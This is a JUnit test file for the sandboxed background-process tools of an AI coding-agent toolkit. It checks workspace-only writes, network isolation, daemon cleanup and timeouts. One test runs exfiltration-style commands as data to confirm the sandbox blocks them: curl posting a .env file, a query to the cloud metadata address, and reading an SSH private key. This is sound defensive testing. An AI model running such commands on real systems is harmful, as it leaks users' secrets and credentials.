package dev.penguin.tools.internal.background;

import static org.assertj.core.api.Assertions.assertThat;

import dev.penguin.needs.Need;
import dev.penguin.needs.Needs;
import dev.penguin.tools.Calls;
import dev.penguin.tools.CodingTools;
import dev.penguin.tools.ProcessesLeft;
import dev.penguin.tools.Sandbox;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Processes in the background of a real sandbox. */
@Timeout(60)
@Needs(Need.SANDBOX)
class SandboxedProcessesTest {
  @TempDir Path top;

  private Path root;
  private CodingTools set;

  @BeforeEach
  void makeTools() throws IOException {
    root = Files.createDirectory(top.resolve("ws")).toRealPath();
    set = CodingTools.in(root).sandbox(Sandbox.standard()).build();
  }

  @AfterEach
  void closeTools() throws Exception {
    set.close();
    ProcessesLeft.awaitNone(root);
    assertThat(root.resolve(".penguin")).doesNotExist();
  }

  @Test
  void theModelAndTheApproverAreTold() throws Exception {
    var start = Calls.tool(set.tools(), "process_start");

    assertThat(start.isSandboxed()).isTrue();
    assertThat(Calls.tool(set.tools(), "process_write").isSandboxed()).isTrue();
    assertThat(start.spec().description()).contains("in a sandbox", "there is no network");
    assertThat(start.preview(Calls.call("process_start", "command", "ls")))
        .contains(
            "goes on in the background; runs in a sandbox: it can write in the workspace (not"
                + " .git, .penguin, .github, .agents) and in a /tmp of its own; there is no network");
  }

  @Test
  void itRunsAsOutsideButIsBounded() throws Exception {
    Files.createDirectory(root.resolve(".git"));
    String text =
        start(
            "echo on; touch made; touch .git/x 2>&1; touch /etc/penguin-was-here 2>&1;"
                + " ls /proc | grep -c '^[0-9]'; tr '\\0' '\\n' </proc/1/environ | grep -c HOME;"
                + " read x; echo got $x; exit 4",
            "^\\d+$");

    assertThat(text).contains("\non\n").contains("Read-only file system").doesNotContain("PENGUIN");
    assertThat(root.resolve("made")).exists();
    assertThat(Path.of("/etc/penguin-was-here")).doesNotExist();
    Calls.success(set.tools(), "process_write", "id", "p1", "text", "word\n");
    String read = Calls.success(set.tools(), "process_read", "id", "p1", "wait_seconds", 20);
    assertThat(read + Calls.success(set.tools(), "process_read", "id", "p1", "wait_seconds", 2))
        .contains("got word")
        .contains("ended with exit code 4");
  }

  @Test
  void s14NothingReachesOut() throws Exception {
    Files.writeString(root.resolve(".env"), "KEY=secret");
    String text =
        start(
            "curl -sS -d @.env http://127.0.0.1:9 2>&1; curl -sS http://169.254.169.254/ 2>&1;"
                + " cat $HOME/.ssh/id_rsa 2>&1; echo over",
            "^over$");

    assertThat(text).doesNotContain("secret").doesNotContain("PRIVATE KEY").contains("over");
  }

  @Test
  void s9ATreeOfDaemonsIsGoneWithin1500Milliseconds() throws Exception {
    String daemon = "trap '' TERM HUP INT; while :; do sleep 321; done";
    start(
        "for i in 1 2 3; do setsid sh -c \": "
            + root
            + "; ("
            + daemon
            + ") & ("
            + daemon
            + ") & wait\" & done; echo on; "
            + daemon,
        "on");
    assertThat(ProcessesLeft.naming(root)).hasSizeGreaterThan(3);
    long begun = System.nanoTime();

    Calls.success(set.tools(), "process_stop", "id", "p1");

    assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(Duration.ofMillis(1_500));
    ProcessesLeft.awaitNone(root);
  }

  @Test
  void aPortInItsOwnNetworkMakesItReady() throws Exception {
    String text =
        Calls.success(
            set.tools(),
            "process_start",
            "command",
            "exec python3 -m http.server 8123 --bind 127.0.0.1",
            "ready_port",
            8123);

    assertThat(text).contains(" and listens on port 8123; it is ready");
  }

  @Test
  void aCommandWhoseTimeIsUpGoesOn() throws Exception {
    assertThat(
            Calls.success(
                set.tools(),
                "shell",
                "command",
                "echo out; sleep 1.5; echo late",
                "timeout_seconds",
                1,
                "on_timeout",
                "background"))
        .isEqualTo(
            "not over after 1 s\nstdout:\nout\n[it goes on in the background as process p1]");
    assertThat(Calls.success(set.tools(), "process_read", "id", "p1", "wait_seconds", 20))
        .endsWith("\nlate");
  }

  @Test
  void aSandboxThatDoesNotStartIsToldOf() throws Exception {
    Path gone = Files.createDirectory(top.resolve("more"));
    try (CodingTools odd =
        CodingTools.in(root).sandbox(Sandbox.standard().withWritable(gone)).build()) {
      Files.delete(gone);
      String text = Calls.failure(odd.tools(), "process_start", "command", "touch made");

      assertThat(text).containsAnyOf("did not run", "moved", "not exist");
      assertThat(root.resolve("made")).doesNotExist();
    }
  }

  private String start(String command, String ready) throws Exception {
    return Calls.run(set.tools(), "process_start", "command", command, "ready_pattern", ready)
        .text();
  }
}
